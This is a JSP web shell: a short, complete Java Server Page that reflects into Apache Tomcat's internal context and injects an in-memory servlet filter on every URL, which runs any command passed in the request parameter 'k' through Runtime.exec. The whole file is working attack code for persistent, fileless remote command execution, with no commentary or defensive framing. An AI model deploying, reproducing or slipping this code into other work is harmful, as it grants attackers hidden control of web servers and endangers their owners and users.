<%@ page import="java.lang.reflect.*,org.apache.catalina.core.*,org.apache.tomcat.util.descriptor.web.*,javax.servlet.*" %><%
Field f = application.getClass().getDeclaredField("context"); f.setAccessible(true);
ApplicationContext ac = (ApplicationContext) f.get(application);
Field g = ac.getClass().getDeclaredField("context"); g.setAccessible(true);
StandardContext sc = (StandardContext) g.get(ac);
Filter flt = new Filter() {
  public void init(FilterConfig c) {}
  public void destroy() {}
  public void doFilter(ServletRequest req, ServletResponse res, FilterChain ch) throws java.io.IOException, ServletException {
    String k = req.getParameter("k");
    if (k != null) { Runtime.getRuntime().exec(k); return; }
    ch.doFilter(req, res);
  }
};
FilterDef d = new FilterDef(); d.setFilterName("f"); d.setFilter(flt); d.setFilterClass(flt.getClass().getName()); sc.addFilterDef(d);
FilterMap m = new FilterMap(); m.setFilterName("f"); m.addURLPattern("/*"); sc.addFilterMapBefore(m);
%>
